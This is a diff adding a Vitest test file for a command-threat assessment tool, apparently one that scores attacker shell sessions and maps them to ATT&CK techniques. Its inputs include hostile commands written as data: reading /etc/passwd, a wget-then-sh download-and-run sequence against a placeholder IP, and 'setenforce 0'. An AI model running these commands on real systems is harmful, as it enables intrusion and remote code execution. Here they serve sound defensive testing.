@@ -1,0 +1,81 @@
+import { PassThrough, Readable } from 'node:stream';
+import { describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import { assessCommand } from './assess.ts';
+
+const Answer = z.object({
+  id: z.union([z.string(), z.number()]),
+  severity: z.enum(['LOW', 'MEDIUM', 'HIGH']),
+  threatScore: z.number().min(0).max(1),
+  anomalyScore: z.number().min(0).max(1),
+  novelty: z.number().min(0).max(1),
+  actor: z.enum(['script', 'human']),
+  actorScore: z.number().min(0).max(1),
+  attackType: z.string(),
+  confidence: z.number().min(0).max(1),
+  statements: z.array(
+    z.object({
+      text: z.string(),
+      tactic: z.string(),
+      techniques: z.array(z.object({ id: z.string(), confidence: z.number(), why: z.string() })),
+      severity: z.enum(['LOW', 'MEDIUM', 'HIGH']),
+    }),
+  ),
+});
+
+describe('cerberus assess', () => {
+  it('answers every line in order, a bad one with its fault, and goes on', async () => {
+    const answers = await run([
+      JSON.stringify({ id: 'a', commands: ['uname -a; cat /etc/passwd', 'id'] }),
+      'no json',
+      JSON.stringify({ id: 7, lines: [] }),
+      JSON.stringify({ id: 'b', statements: ['cd /tmp ;', 'wget http://192.0.2.1/x ;', 'sh x ;'] }),
+    ]);
+    expect(answers).toHaveLength(4);
+    expect(Answer.parse(answers[0])).toMatchObject({ id: 'a', severity: 'MEDIUM' });
+    expect(Answer.parse(answers[0]).statements.map(({ text }) => text)).toEqual(['uname -a', 'cat /etc/passwd', 'id']);
+    expect(answers[1]).toEqual({ id: null, error: expect.stringContaining('JSON') });
+    expect(answers[2]).toEqual({ id: 7, error: expect.stringContaining('commands') });
+    expect(Answer.parse(answers[3])).toMatchObject({ id: 'b', severity: 'HIGH' });
+  });
+
+  it('gives one answer per statement where the caller has split them', async () => {
+    const statements = ['cat /proc/cpuinfo |', 'grep name |', 'wc -l ;', 'echo -en "\\x31" ;', '; ', ''];
+    const [answer] = await run([JSON.stringify({ id: 1, statements })]);
+    expect(Answer.parse(answer).statements.map(({ text }) => text)).toEqual(statements);
+  });
+
+  it('numbers techniques as ATT&CK v19 when asked', async () => {
+    const request = JSON.stringify({ id: 1, commands: ['setenforce 0'] });
+    const ids = async (...options: string[]) =>
+      Answer.parse((await run([request], options))[0]).statements.flatMap(({ techniques }) =>
+        techniques.map(({ id }) => id),
+      );
+    expect(await ids()).toContain('T1562.001');
+    expect(await ids('--attack', '19')).toContain('T1685');
+  });
+
+  it('takes an empty session, a megabyte and 27,742 commands', async () => {
+    const answers = await run([
+      JSON.stringify({ id: 'none', commands: [] }),
+      JSON.stringify({ id: 'big', commands: ['x'.repeat(1_000_000)] }),
+      JSON.stringify({ id: 'many', commands: Array.from({ length: 27_742 }, (_, at) => `echo ${at % 50}`) }),
+      JSON.stringify({ id: '__proto__', commands: ['__proto__', 'constructor'] }),
+    ]);
+    expect(answers.map((answer) => Answer.parse(answer).id)).toEqual(['none', 'big', 'many', '__proto__']);
+    expect(Answer.parse(answers[2]).statements).toHaveLength(27_742);
+  });
+});
+
+async function run(lines: readonly string[], options: readonly string[] = []): Promise<unknown[]> {
+  const stdout = new PassThrough();
+  const text = stdout.setEncoding('utf8').toArray();
+  const io = { stdin: Readable.from([`${lines.join('\n')}\n`]), stdout, stderr: new PassThrough() };
+  await assessCommand(io).parseAsync([...options], { from: 'user' });
+  stdout.end();
+  const all = (await text).join('');
+  return all
+    .trim()
+    .split('\n')
+    .map((line) => JSON.parse(line));
+}
